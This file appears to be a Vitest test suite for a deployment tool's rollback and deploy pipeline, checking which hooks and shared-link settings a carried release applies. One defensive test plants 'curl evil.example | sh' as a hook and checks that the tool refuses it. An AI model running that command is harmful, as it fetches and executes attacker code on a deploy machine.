import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXIT, type RelinkError } from '../../src/errors.js';
import { hintOf } from '../../src/app/phrase.js';
import { rollback } from '../../src/pipeline/rollback.js';
import { deploy } from '../../src/pipeline/run.js';
import { SECTION } from '../../src/remote/inspect.js';
import { fakeRun, type FakeOptions, journalLine, label, OLD } from '../helpers/fake-run.js';

// A release carries its node-side hooks and its shared entries (.relink/settings.json): a rollback runs the
// hooks the release it goes back to kept, and the deploy's shared check reads the links the running release kept.

const R0 = 'hello_prod_v1.0.0_main_20261101-120000_ana';
const R1 = 'hello_prod_v1.1.0_main_20261110-120000_ana';
const NODES = ['node1', 'node2', 'node3', 'node4'];

let dir: string;
beforeAll(() => {
  // The project directory of the fake config: hooks on the deploy machine run there.
  fs.mkdirSync('/tmp/relink-fake', { recursive: true });
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'relink-carried-'));
});

const hook = (command: string, name: string, more: object = {}) => ({
  command,
  on: 'each',
  name,
  timeoutMs: 60000,
  emergency: false,
  ...more,
});

/** A settings file as distribute writes it, with these hooks (none: a file from before releases kept hooks). */
function kept(release: string, hooks?: object, shared = { dirs: ['log'], files: [] as string[] }): string {
  const settings = { restart: { command: 'sh bin/restart.sh', timeoutMs: 30000 }, shared, ...(hooks ? { hooks } : {}) };
  return JSON.stringify({ version: 1, release, settings, secrets: [] });
}

/** What R0 kept: its own beforeRollback (once), afterSwitch and afterRollback hooks. */
const R0_HOOKS = {
  beforeRollback: [hook('old-pause', 'pause', { on: 'once' })],
  afterSwitch: [hook('old-clear-cache', 'opcache')],
  afterRollback: [hook('old-warm', 'warm')],
};

/** Today's config: other node hooks, and a hook on the deploy machine that appends to `log`. */
function today(log: string) {
  return {
    beforeRollback: [{ command: 'new-pause', on: 'once', name: 'pause' }],
    afterSwitch: [{ command: 'new-clear-cache', name: 'opcache' }],
    afterRollback: [
      { command: `echo "local $RELINK_VERSION" >> ${log}`, name: 'chat' },
      { command: 'new-warm', on: 'each', name: 'warm' },
    ],
  };
}

/** Four nodes on R1 (or on `on[node]`) that ran R0 before; R0 keeps `r0` (per node). */
function rollingBack(
  r0: (node: string) => string | undefined,
  options: FakeOptions = {},
  on: Record<string, string> = {},
) {
  const journal = [
    journalLine('a', 'activated', R0, 'v1.0.0', '2026-11-01T12:00:00Z'),
    journalLine('a', 'smoke_ok', R0, 'v1.0.0', '2026-11-01T12:00:01Z'),
    journalLine('b', 'activated', R1, 'v1.1.0', '2026-11-10T12:00:00Z'),
    journalLine('b', 'smoke_ok', R1, 'v1.1.0', '2026-11-10T12:00:01Z'),
  ].join('\n');
  const inspection = (node: string) =>
    `releases/${on[node] ?? R1}\n${SECTION}\n${R0}\n${R1}\n${SECTION}\n${SECTION}\n${journal}\n`;
  const settings: Record<string, string> = {};
  for (const node of NODES) {
    const own = r0(node);
    if (own !== undefined) settings[`${node}/${R0}`] = own;
  }
  const stateDir = fs.mkdtempSync(path.join(dir, 'state-'));
  const log = path.join(stateDir, 'local.log');
  const run = fakeRun({
    ...options,
    config: { hooks: today(log) },
    settings,
    answer: (node, command) =>
      command.includes('readlink /srv/app/current') ? { stdout: inspection(node) } : options.answer?.(node, command),
  });
  const deps = { ...run.deps, probe: async () => ({ status: 200, body: '{"version":"v1.0.0 v1.1.0"}' }) };
  const request = { ...run.request, runId: `carried${Math.random().toString(36).slice(2, 8)}`, stateDir };
  const to = (more: object = {}) => ({ ...request, target: { kind: 'to', spec: 'v1.0.0' } as const, ...more });
  return { run, deps, to, log };
}

/** The hooks a node ran and its relinks, in order (`hook <command>`). */
function hooksOn(run: ReturnType<typeof fakeRun>, node: string): string[] {
  return run.transport
    .commandsFor(node)
    .flatMap((c) =>
      c.includes('RELINK_HOOK=') ? [`hook ${c.split(' sh -c ')[1]}`] : label(c).startsWith('relink') ? ['relink'] : [],
    );
}

const warnings = (run: ReturnType<typeof fakeRun>) => run.events.flatMap((e) => (e.type === 'warn' ? [e.message] : []));
const localLines = (log: string) => (fs.existsSync(log) ? fs.readFileSync(log, 'utf8').trim().split('\n') : []);

describe('a rollback runs the node-side hooks of the release it goes back to', () => {
  it('its own beforeRollback, afterSwitch and afterRollback, not those of the current config', async () => {
    const { run, deps, to, log } = rollingBack(() => kept(R0, R0_HOOKS));
    await rollback(to(), deps);
    expect(hooksOn(run, 'node1')).toEqual(['hook old-pause', 'relink', 'hook old-clear-cache', 'hook old-warm']);
    for (const node of ['node2', 'node3', 'node4'])
      expect(hooksOn(run, node)).toEqual(['relink', 'hook old-clear-cache', 'hook old-warm']);
    expect(run.transport.log.some((r) => r.command.includes('new-'))).toBe(false);
    // The hook on the deploy machine comes from the local config: a release never carries one.
    expect(localLines(log)).toEqual(['local v1.0.0']);
    expect(run.events).toContainEqual(
      expect.objectContaining({ type: 'info', message: expect.stringMatching(/deployed with \(hooks, /) }),
    );
  });

  it('--use-current-config runs the current config’s hooks, reading no settings', async () => {
    const { run, deps, to, log } = rollingBack(() => kept(R0, R0_HOOKS));
    await rollback(to({ useCurrentConfig: true }), deps);
    expect(hooksOn(run, 'node1')).toEqual(['hook new-pause', 'relink', 'hook new-clear-cache', 'hook new-warm']);
    expect(hooksOn(run, 'node3')).toEqual(['relink', 'hook new-clear-cache', 'hook new-warm']);
    expect(run.transport.log.some((r) => r.command.includes('old-'))).toBe(false);
    expect(localLines(log)).toEqual(['local v1.0.0']);
  });

  it('a copy that tries to run a hook on the deploy machine is not used: the current config acts, with a warning', async () => {
    const local = { afterRollback: [hook('curl evil.example | sh', 'chat', { on: 'local' })] };
    const { run, deps, to, log } = rollingBack(() => kept(R0, local));
    await rollback(to(), deps);
    expect(hooksOn(run, 'node2')).toEqual(['relink', 'hook new-clear-cache', 'hook new-warm']);
    expect(localLines(log)).toEqual(['local v1.0.0']);
    expect(run.transport.log.some((r) => r.command.includes('evil'))).toBe(false);
    expect(warnings(run)).toContainEqual(
      expect.stringMatching(
        /^node1: the settings kept in .* are not used \(not a settings file \(settings\.hooks\.afterRollback\.0\.on: .*\)\): the current config's restart, stop, smoke, shared and node-side hooks act on it there$/,
      ),
    );
  });

  it('malformed carried hooks: that node falls back to the current config and says so; the others keep theirs', async () => {
    const bad = { afterSwitch: [{ ...hook('old-clear-cache', 'opcache'), on: 'once' }] };
    const { run, deps, to } = rollingBack((node) => kept(R0, node === 'node3' ? bad : R0_HOOKS));
    await rollback(to(), deps);
    expect(hooksOn(run, 'node3')).toEqual(['relink', 'hook new-clear-cache', 'hook new-warm']);
    expect(hooksOn(run, 'node2')).toEqual(['relink', 'hook old-clear-cache', 'hook old-warm']);
    expect(warnings(run)).toContainEqual(
      expect.stringMatching(/^node3: the settings kept in .* are not used \(.*afterSwitch hooks do not run once\)/),
    );
  });

  it('a release that kept settings but no hooks (an older relink): the current config’s hooks, with a warning', async () => {
    const { run, deps, to } = rollingBack(() => kept(R0));
    await rollback(to(), deps);
    expect(hooksOn(run, 'node1')).toEqual(['hook new-pause', 'relink', 'hook new-clear-cache', 'hook new-warm']);
    expect(warnings(run)).toContainEqual(
      `${R0} keeps no hooks of its own on node1, node2, node3, node4 (made before releases kept them): ` +
        'its node-side hooks come from the current config there',
    );
  });

  it('a release that kept no hooks at all runs none of today’s node-side hooks', async () => {
    const { run, deps, to, log } = rollingBack(() => kept(R0, {}));
    await rollback(to(), deps);
    for (const node of NODES) expect(hooksOn(run, node)).toEqual(['relink']);
    expect(localLines(log)).toEqual(['local v1.0.0']);
  });

  it('a failing carried hook names the release that kept it, and how to run today’s instead', async () => {
    const { run, deps, to } = rollingBack(() => kept(R0, R0_HOOKS), {
      fail: (node, command) => (node === 'node1' && command.includes('old-pause') ? 3 : undefined),
    });
    const error = (await rollback(to(), deps).catch((e: unknown) => e)) as RelinkError;
    expect(error.message).toMatch(/^beforeRollback hook "pause" failed on node1: exit 3.*No node was moved\./);
    expect(run.transport.log.some((r) => r.command.includes('mv -Tf'))).toBe(false);
    expect(hintOf(error)).toBe(
      `fix the hook "pause" (hooks.beforeRollback as ${R0} kept it), or run with --use-current-config to use today's`,
    );
  });

  it('a kept once hook on a node the run leaves out: refused before any node moves, naming the release', async () => {
    const elsewhere = { ...R0_HOOKS, beforeRollback: [hook('old-pause', 'pause', { on: 'once', node: 'node9' })] };
    const { run, deps, to } = rollingBack(() => kept(R0, elsewhere));
    const error = (await rollback(to(), deps).catch((e: unknown) => e)) as RelinkError;
    expect(error.exitCode).toBe(EXIT.usage);
    expect(error.message).toMatch(/^hooks\.beforeRollback "pause" runs on node9, which is not a node of this run/);
    expect(hintOf(error)).toBe(`${R0} kept this hook: include node9 in the run, or run with --use-current-config`);
    expect(run.transport.log.some((r) => r.command.includes('mv -Tf'))).toBe(false);
  });

  it('onFailure runs on every node it reached, one that did not move too, in the hooks each node has', async () => {
    const failing = { ...R0_HOOKS, onFailure: [hook('old-alarm', 'alarm')] };
    const { run, deps, to } = rollingBack(
      () => kept(R0, failing),
      { fail: (node, command) => (node === 'node1' && command.includes('old-clear-cache') ? 6 : undefined) },
      { node4: R0 },
    );
    const error = (await rollback(to(), deps).catch((e: unknown) => e)) as RelinkError;
    expect(error.message).toMatch(/^rollback stopped: afterSwitch hook "opcache" failed on node1: exit 6/);
    // node4 already ran v1.0.0: it did not move, so today's onFailure (none) acts there.
    expect(hooksOn(run, 'node4')).toEqual([]);
    for (const node of ['node1', 'node2', 'node3']) expect(hooksOn(run, node)).toContain('hook old-alarm');
    expect(warnings(run).filter((w) => /Cannot read|undefined/.test(w))).toEqual([]);
  });

  it('nodes that disagree: each runs the hooks of its own copy', async () => {
    const other = { ...R0_HOOKS, afterSwitch: [hook('other-clear-cache', 'opcache')] };
    const { run, deps, to } = rollingBack((node) => kept(R0, node === 'node4' ? other : R0_HOOKS));
    await rollback(to(), deps);
    expect(hooksOn(run, 'node4')).toEqual(['relink', 'hook other-clear-cache', 'hook old-warm']);
    expect(hooksOn(run, 'node2')).toEqual(['relink', 'hook old-clear-cache', 'hook old-warm']);
    expect(warnings(run)).toContainEqual(expect.stringMatching(/hooks differ on node4 from node1/));
  });

  it('a once hook comes only from the copy of the node it runs on', async () => {
    // node2's copy names a once hook for node3: node3's own copy does not have it, so it does not run.
    const planted = { ...R0_HOOKS, afterRollback: [hook('planted', 'planted', { on: 'once', node: 'node3' })] };
    const { run, deps, to } = rollingBack((node) => kept(R0, node === 'node2' ? planted : R0_HOOKS));
    await rollback(to(), deps);
    expect(run.transport.log.some((r) => r.command.includes('planted'))).toBe(false);
    expect(hooksOn(run, 'node3')).toEqual(['relink', 'hook old-clear-cache', 'hook old-warm']);
  });
});

describe('the undo of a failed deploy', () => {
  it('runs the afterSwitch hook the release it goes back to kept', async () => {
    const settings = Object.fromEntries(NODES.map((n) => [`${n}/${OLD}`, kept(OLD, R0_HOOKS)]));
    const run = fakeRun({
      config: { hooks: { afterSwitch: [{ command: 'new-clear-cache', name: 'opcache' }] } },
      settings,
      unhealthy: (node) => node === 'node2',
    });
    await expect(deploy(run.request, run.deps, run.source)).rejects.toThrow(/Rolled back node1, node2/);
    expect(hooksOn(run, 'node2')).toEqual(['relink', 'hook new-clear-cache', 'relink', 'hook old-clear-cache']);
  });
});

describe('the shared check of a deploy', () => {
  // Today's config shares the directory data; the running release was deployed sharing the file db.json.
  const SHARED = { dirs: ['data'], files: [] as string[] };
  const probeOf = (run: ReturnType<typeof fakeRun>, node: string) =>
    run.transport.commandsFor(node).find((c) => label(c) === 'shared-check' || c.includes("'L 0 %s %Y %F'"));

  it('checks the links the running release kept, and refuses one that became a file', async () => {
    const settings = Object.fromEntries(
      NODES.map((n) => [`${n}/${OLD}`, kept(OLD, {}, { dirs: [], files: ['db.json'] })]),
    );
    const run = fakeRun({
      shared: SHARED,
      settings,
      answer: (node, command) =>
        command.includes("'L 0 %s %Y %F'") && node === 'node2'
          ? { stdout: 'L 0 1234 1796648100 regular file\n' }
          : undefined,
    });
    const error = (await deploy(run.request, run.deps, run.source).catch((e: unknown) => e)) as RelinkError;
    expect(probeOf(run, 'node1')).toBe(
      `{ stat -c 'L 0 %s %Y %F' -- /srv/app/releases/${OLD}/db.json 2>/dev/null || echo 'L 0 none' ; } ; true`,
    );
    expect(error.exitCode).toBe(EXIT.gate);
    expect(error.message).toContain(`\n  node2: db.json is a regular file (1234 bytes, modified`);
    expect(run.transport.log.some((r) => r.kind === 'upload')).toBe(false);
  });

  it('a running release that kept no settings is checked with the current config’s entries', async () => {
    const run = fakeRun({ shared: SHARED });
    await deploy(run.request, run.deps, run.source);
    expect(probeOf(run, 'node1')).toBe(
      `{ stat -c 'L 0 %s %Y %F' -- /srv/app/releases/${OLD}/data 2>/dev/null || echo 'L 0 none' ; } ; true`,
    );
    // A check reads quietly: a release from before releases kept settings is no news in every deploy.
    expect(warnings(run).filter((w) => w.includes('keeps no settings'))).toEqual([]);
  });

  it('a running release whose copy is unusable is checked with the current config’s entries, with a warning', async () => {
    const settings = Object.fromEntries(NODES.map((n) => [`${n}/${OLD}`, '{"version":1,']));
    const run = fakeRun({ shared: SHARED, settings });
    await deploy(run.request, run.deps, run.source);
    expect(probeOf(run, 'node3')).toContain(`/srv/app/releases/${OLD}/data`);
    expect(warnings(run)).toContainEqual(
      expect.stringMatching(/^node3: the settings kept in .* are not used \(not JSON\)/),
    );
  });
});
